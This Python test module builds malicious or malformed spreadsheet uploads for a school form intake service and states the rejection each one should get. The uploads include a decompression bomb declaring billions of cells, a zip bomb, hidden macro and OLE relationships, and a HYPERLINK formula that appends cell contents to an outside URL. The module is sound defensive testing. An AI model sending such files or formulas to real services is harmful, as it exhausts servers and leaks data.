"""Files that must not come in, made out of a good form: one table for every page that takes one."""

import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache

import openpyxl
from openpyxl.comments import Comment

from tests.domain.intake.world import bomb

NAMES_PUPIL = "Кривозубова Аделаида Феоктистовна"
"""Nobody is called so: wherever these words turn up, they came from a planted cell."""

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
ROWS_OF_EXCEL = 1_048_576
ZIP_DATE = (2026, 4, 14, 0, 0, 0)


@dataclass(frozen=True)
class Form:
    """A form a school would send: its bytes, the sheet people fill and a cell that is typed in.

    drawn: the same form with another identity: campaign, body, per
    """

    file: bytes
    sheet: str
    cell: str
    drawn: Callable[[Mapping[str, str]], bytes]

    def with_value(self, cell: str, value: object) -> bytes:
        """The form after somebody typed this over a cell."""
        book = openpyxl.load_workbook(io.BytesIO(self.file))
        book[self.sheet][cell] = value
        return _saved(book)

    def with_comment(self, text: str) -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(self.file))
        book[self.sheet][self.cell].comment = Comment(text, "кто-то")
        return _saved(book)

    def with_parts(self, **parts: bytes) -> bytes:
        """The form with these parts added under xl/."""
        out = io.BytesIO(self.file)
        with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as book:
            for name, part in parts.items():
                book.writestr(f"xl/{name}", part)
        return out.getvalue()


@dataclass(frozen=True)
class Bad:
    """One way a file may be bad.

    made:   name and bytes, out of a good form
    status: what the page answers
    tells:  words of the answer: the cell, or the reason
    """

    made: Callable[[Form], tuple[str, bytes]]
    status: int
    tells: Callable[[Form], str]


def _saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _of(name: str, status: int, tells: str, make: Callable[[Form], bytes]) -> Bad:
    return Bad(lambda form: (name, make(form)), status, lambda _: tells)


def _at_its_cell(status: int, make: Callable[[Form], bytes]) -> Bad:
    return Bad(lambda form: ("форма.xlsx", make(form)), status, lambda form: form.cell)


def other_workbook(_: Form) -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["Дата", "Температура"])
    return _saved(book)


def by_hand(sheet: bytes) -> bytes:
    """The smallest workbook there can be, with this sheet in it."""
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
        '<sheet name="Протокол" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>",
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, part in parts.items():
            book.writestr(zipfile.ZipInfo(name, ZIP_DATE), part, zipfile.ZIP_DEFLATED)
        sheet_name = zipfile.ZipInfo("xl/worksheets/sheet1.xml", ZIP_DATE)
        book.writestr(sheet_name, sheet, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def sheet_of(rows: str) -> bytes:
    return f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def two_far_cells(_: Form) -> bytes:
    """A1 and XFD1048576: a kilobyte and a half that lays out seventeen milliard cells."""
    file = by_hand(
        sheet_of(
            '<row r="1"><c r="A1"><v>1</v></c></row>'
            f'<row r="{ROWS_OF_EXCEL}"><c r="XFD{ROWS_OF_EXCEL}"><v>1</v></c></row>'
        )
    )
    assert len(file) < 1_700
    return file


@cache
def _all_rows_of_excel() -> bytes:
    return by_hand(
        sheet_of(
            "".join(
                f'<row r="{n}"><c r="A{n}"><v>4</v></c></row>' for n in range(1, ROWS_OF_EXCEL + 1)
            )
        )
    )


def relation_of(kind: str) -> bytes:
    """A list of relations that tells of a part of this kind."""
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="a.bin"/></Relationships>'
    ).encode()


FORMULA = '=HYPERLINK("http://example.org/?"&A1,"1")'
PNG = b"\x89PNG\r\n\x1a\n" + bytes(200)

BAD: dict[str, Bad] = {
    "another workbook": _of("погода.xlsx", 409, "лист", other_workbook),
    "last year's form": _of(
        "форма.xlsx", 409, "2025-spring", lambda form: form.drawn({"campaign": "2025-spring"})
    ),
    "another school's form": _of(
        "форма.xlsx", 409, "edu220043", lambda form: form.drawn({"body": "edu220043"})
    ),
    "an empty file": _of("форма.xlsx", 400, "пуст", lambda _: b""),
    "an image called .xlsx": _of("форма.xlsx", 400, "Excel", lambda _: PNG),
    "a program": _of("форма.exe", 400, ".xlsx", lambda _: b"MZ" + bytes(99)),
    "a bomb of two cells": _of("форма.xlsx", 413, "строк", two_far_cells),
    "a bomb of zeros": _of("форма.xlsx", 400, "Файл", lambda _: bomb()),
    "a truncated archive": _of(
        "форма.xlsx", 400, "Файл", lambda form: form.file[: len(form.file) // 2]
    ),
    "a million rows": _of("форма.xlsx", 413, "Файл", lambda _: _all_rows_of_excel()),
    "a file too large": _of("форма.xlsx", 413, "МБ", lambda form: form.file + bytes(6_000_000)),
    "a sheet too wide": _of(
        "форма.xlsx", 413, "столбцов", lambda form: form.with_value("ZZ9", "болел")
    ),
    "a formula": _at_its_cell(400, lambda form: form.with_value(form.cell, FORMULA)),
    "macros": _of(
        "форма.xlsx", 400, "макрос", lambda form: form.with_parts(**{"vbaProject.bin": b"x"})
    ),
    "macros by its name": _of("форма.xlsm", 400, "макрос", lambda form: form.file),
    "links to other workbooks": _of(
        "форма.xlsx",
        400,
        "ссыл",
        lambda form: form.with_parts(**{"externalLinks/externalLink1.xml": b"<a/>"}),
    ),
    "macros under another name": _of(
        "форма.xlsx",
        400,
        "макрос",
        lambda form: form.with_parts(**{"_rels/other.rels": relation_of("vbaProject")}),
    ),
    "a thing inside under another name": _of(
        "форма.xlsx",
        400,
        "вложен",
        lambda form: form.with_parts(**{"_rels/other.rels": relation_of("oleObject")}),
    ),
    "a name in a cell": _at_its_cell(422, lambda form: form.with_value(form.cell, NAMES_PUPIL)),
    "a name in a comment": _of(
        "форма.xlsx", 422, "имена", lambda form: form.with_comment(NAMES_PUPIL)
    ),
    "a name in the file's name": _of(
        f"{NAMES_PUPIL}.xlsx", 422, "имена", lambda form: form.with_comment("проверено")
    ),
}
